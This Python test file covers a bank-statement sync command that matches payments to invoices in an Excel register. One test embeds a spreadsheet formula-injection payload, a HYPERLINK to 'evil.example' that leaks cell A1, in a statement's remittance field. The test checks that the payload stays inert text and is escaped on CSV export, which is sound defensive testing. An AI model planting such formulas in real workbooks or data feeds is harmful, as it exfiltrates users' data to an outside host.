"""`orderdesk sync bank` on a register file: what finance sees in the saved workbook afterwards."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from orderdesk.cli import main
from orderdesk.schema import BankEntries, Customers, Invoices
from tests.bank.conftest import FILES, trade_rows
from tests.bank.sheets import by_key, cell, rows

V02 = str(FILES / "camt053_v02_hsbc.xml")
V08 = str(FILES / "camt053_v08_commerzbank.xml")
DB = str(FILES / "mt940_deutsche_bank.sta")


def sync(register: Path, *files: str) -> int:
    args = ["sync", "bank", str(register)]
    for f in files:
        args += ["--statement", f]
    return main(args)


def test_statements_land_matched_and_invoices_show_what_is_open(trade_register: Path) -> None:
    assert sync(trade_register, V02, V08, DB) == 1  # findings: a suggestion, an unmatched one
    entries = by_key(trade_register, BankEntries, BankEntries.entry_ref)
    assert len(entries) == 10
    state = {
        ref: (r[BankEntries.match_status], r[BankEntries.matched_invoices])
        for ref, r in entries.items()
    }
    assert state == {
        "HK2026103000417": ("matched", "INV-2026-0001: 12000.00"),
        "HK2026103100098-1": ("matched", "INV-2026-0002: 5000.00"),
        # one receipt naming the order pays its deposit and balance invoices
        "HK2026103100098-2": ("matched", "INV-2026-0010: 750.00; INV-2026-0012: 1750.00"),
        "HK2026103100311": ("outgoing", None),
        # 24.50 short: bank charges within the 50 tolerance, the invoice is settled in full
        "2026110200123456": ("matched", "INV-2026-0003: 10000.00"),
        # 30 % of a full invoice under TT30-70, named by order only and no payer: a suggestion
        "2026110200123999": ("suggested", "INV-2026-0011: 3000.00"),
        # EUR 8,600 × 1.1172 (ECB, 2026-10-30) = USD 9,607.92, within 1 % of 9,600.00
        "2026110200555111": ("matched", "INV-2026-0004: 9600.00"),
        # ACME pays INV-2026-0001 a second time through another bank
        "DB2610310001": ("unmatched", None),
        "DB2610310002": ("outgoing", None),
        "DB2610310003": ("matched", "INV-2026-0005: 4550.00"),
    }
    assert "already paid" in entries["DB2610310001"][BankEntries.match_reasons]
    assert entries["2026110200123456"][BankEntries.confidence] == 1.0
    assert "bank charges" in entries["2026110200123456"][BankEntries.match_reasons]

    invoices = by_key(trade_register, Invoices, Invoices.invoice_no)

    def ledger(no: str) -> tuple[object, ...]:
        r = invoices[no]
        last = r[Invoices.last_payment]
        return (
            r[Invoices.paid],
            r[Invoices.outstanding],
            r[Invoices.status],
            last.date() if last else None,
        )

    assert ledger("INV-2026-0001") == (12000, 0, "paid", dt.date(2026, 10, 30))
    assert ledger("INV-2026-0003") == (10000, 0, "paid", dt.date(2026, 11, 2))
    assert ledger("INV-2026-0004") == (9600, 0, "paid", dt.date(2026, 11, 2))
    assert ledger("INV-2026-0012") == (1750, 0, "paid", dt.date(2026, 10, 31))
    # not applied (only suggested), and due 2026-11-14: overdue on 2026-11-15
    assert ledger("INV-2026-0011") == (0, 10000, "overdue", None)

    # Days late by hand: CU-0001 INV-0001 due 10-25 paid 10-30 (5) and INV-0011 one day over
    # (1) → 3.0; CU-0003 INV-0010 due 09-10 paid 10-31 (51), INV-0012 early (0) → 25.5;
    # CU-0006 INV-0005 due 10-20 paid 10-31 → 11.
    customers = by_key(trade_register, Customers, Customers.customer_id)
    late = {c: r[Customers.avg_days_late] for c, r in customers.items()}
    assert late == {
        "CU-0001": 3.0,
        "CU-0002": 0,
        "CU-0003": 25.5,
        "CU-0004": 0,
        "CU-0005": 0,
        "CU-0006": 11,
    }
    # The user's own columns are left as they were.
    assert customers["CU-0001"][Customers.credit_score] == 80
    assert invoices["INV-2026-0001"][Invoices.amount] == 12000


def test_a_second_sync_changes_nothing(trade_register: Path) -> None:
    sync(trade_register, V02, V08, DB)
    before = trade_register.read_bytes()
    assert sync(trade_register, V02, V08, DB) == 1
    assert trade_register.read_bytes() == before  # not even saved again


def test_overlapping_statements_add_only_what_is_new(trade_register: Path, tmp_path: Path) -> None:
    full = (FILES / "mt940_abn_amro.sta").read_text()
    first_day = tmp_path / "day1.sta"
    first_day.write_text(full.split(":20:ABN0000000002")[0])
    assert sync(trade_register, str(first_day)) in (0, 1)
    assert len(rows(trade_register, BankEntries)) == 1
    sync(trade_register, str(FILES / "mt940_abn_amro.sta"))  # day 1 again, and day 2
    entries = rows(trade_register, BankEntries)
    # day 2 has two identical payments without a bank reference: both stay
    assert len(entries) == 3
    keys = [r[BankEntries.entry_ref] for r in entries]
    assert keys[0] == "ABN-1029-77"
    # no bank reference: keyed by their places in the statement, so two keys
    assert keys[1].startswith("FP2-") and keys[2].startswith("FP2-") and keys[1] != keys[2]
    assert all(r[BankEntries.match_status] != "duplicate?" for r in entries)


def test_a_broken_file_imports_nothing(trade_register: Path, tmp_path: Path, capsys) -> None:
    broken = tmp_path / "broken.sta"
    text = (FILES / "mt940_hsbc_uk.sta").read_text()
    broken.write_text(text.replace(":61:2611021102C3000,00NTRF", ":61:2611021102C3X00,00NTRF"))
    before = trade_register.read_bytes()
    assert sync(trade_register, V02, str(broken)) == 2
    err = " ".join(capsys.readouterr().err.split())  # the terminal wraps long lines
    assert "broken.sta: line 8: the statement line ':61:2611021102C3X00,00NTRF" in err
    assert "is malformed" in err
    assert "Nothing was imported" in err
    assert trade_register.read_bytes() == before


def test_a_formula_in_a_remittance_stays_text(trade_register: Path, tmp_path: Path) -> None:
    evil = tmp_path / "evil.sta"
    evil.write_text(
        ":20:X1\n:25:NL91ABNA0417164300\n:28C:1/1\n:60F:C261029USD0,00\n"
        ":61:261029C10,00NTRFNONREF//EVIL1\n"
        ':86:=HYPERLINK("http://evil.example/?leak="&A1,"click")\n'
        ":62F:C261029USD10,00\n"
    )
    sync(trade_register, str(evil))
    got = cell(trade_register, BankEntries, BankEntries.entry_ref, "EVIL1", BankEntries.remittance)
    assert got.data_type == "s"  # a string, not a formula
    assert got.value == '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    out = tmp_path / "entries.csv"
    assert (
        main(["export", "sheet", str(trade_register), "--sheet", "BankEntries", "--out", str(out)])
        == 0
    )
    text = out.read_text(encoding="utf-8-sig")
    assert """'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")""" in text


def _set(path: Path, ref: str, status: str, invoices: str) -> None:
    wb = load_workbook(path)
    ws = wb[BankEntries.sheet]
    header = [c.value for c in ws[1]]
    k = header.index(BankEntries.entry_ref)
    s = header.index(BankEntries.match_status)
    m = header.index(BankEntries.matched_invoices)
    for row in ws.iter_rows(min_row=2):
        if row[k].value == ref:
            row[s].value = status
            row[m].value = invoices
    wb.save(path)


def test_a_person_confirms_a_suggestion_or_types_invoices(trade_register: Path) -> None:
    sync(trade_register, V08)
    assert (
        by_key(trade_register, Invoices, Invoices.invoice_no)["INV-2026-0011"][Invoices.paid] == 0
    )
    _set(trade_register, "2026110200123999", "confirmed", "INV-2026-0011: 3000.00")
    sync(trade_register, V08)
    inv = by_key(trade_register, Invoices, Invoices.invoice_no)["INV-2026-0011"]
    # part paid, and past its due date (2026-11-14) on 2026-11-15
    assert (inv[Invoices.paid], inv[Invoices.outstanding], inv[Invoices.status]) == (
        3000,
        7000,
        "overdue",
    )
    entry = by_key(trade_register, BankEntries, BankEntries.entry_ref)["2026110200123999"]
    assert entry[BankEntries.match_status] == "confirmed"  # OrderDesk leaves a person's word


def test_a_confirmed_entry_with_an_unknown_invoice_is_reported(
    trade_register: Path, capsys
) -> None:
    sync(trade_register, V08)
    _set(trade_register, "2026110200123999", "confirmed", "INV-2026-9999")
    assert sync(trade_register, V08) == 1
    out = " ".join(capsys.readouterr().out.split())
    assert "BankEntries row" in out and "Matched Invoices ('INV-2026-9999')" in out
    assert "no invoice INV-2026-9999; not applied" in out


def test_spread_over_invoices_typed_without_amounts(
    make_register: Callable[..., Path], tmp_path: Path
) -> None:
    data = trade_rows()
    register = make_register(data)
    note = tmp_path / "one.sta"
    note.write_text(
        ":20:S1\n:25:X\n:28C:1/1\n:60F:C261101USD0,00\n"
        ":61:261101C13000,00NTRFNONREF//PAIR1\n:86:TWO INVOICES\n:62F:C261101USD13000,00\n"
    )
    sync(register, str(note))
    _set(register, "PAIR1", "confirmed", "INV-2026-0005; INV-2026-0003")
    sync(register, str(note))
    inv = by_key(register, Invoices, Invoices.invoice_no)
    # 13,000 over INV-0005 (4,550 open) then INV-0003 (10,000 open): 4,550 + 8,450
    assert inv["INV-2026-0005"][Invoices.paid] == 4550
    assert inv["INV-2026-0003"][Invoices.paid] == 8450
    assert inv["INV-2026-0003"][Invoices.outstanding] == 1550


@pytest.mark.parametrize("args", [["--sandbox"], []])
def test_usage_errors(trade_register: Path, args: list[str], capsys) -> None:
    assert main(["sync", "bank", str(trade_register), *args]) == 2
    assert capsys.readouterr().err


def test_payments_finance_recorded_by_hand_are_kept(make_register: Callable[..., Path]) -> None:
    """A register adopted from an earlier way of working: INV-2026-0011 was paid before OrderDesk
    held any bank history. A sync must not turn it back into an open, overdue invoice, nor offer
    a new receipt against it."""
    data = trade_rows()
    for row in data[Invoices]:
        if row[Invoices.invoice_no] == "INV-2026-0011":
            row[Invoices.paid] = 10000
            row[Invoices.outstanding] = 0
            row[Invoices.status] = "paid"
            row[Invoices.last_payment] = dt.date(2026, 11, 10)
    register = make_register(data)
    sync(register, V02, V08, DB)
    invoice = by_key(register, Invoices, Invoices.invoice_no)["INV-2026-0011"]
    assert (invoice[Invoices.paid], invoice[Invoices.outstanding], invoice[Invoices.status]) == (
        10000,
        0,
        "paid",
    )
    assert invoice[Invoices.last_payment].date() == dt.date(2026, 11, 10)
    # the 3,000 receipt naming that order is no longer put against a settled invoice
    entries = by_key(register, BankEntries, BankEntries.entry_ref)
    assert "INV-2026-0011" not in str(entries["2026110200123999"][BankEntries.matched_invoices])
    # and the receipts the bank did bring still settle their invoices as before
    assert by_key(register, Invoices, Invoices.invoice_no)["INV-2026-0001"][Invoices.paid] == 12000
    saved = register.read_bytes()
    sync(register, V02, V08, DB)
    assert register.read_bytes() == saved  # running it again changes nothing
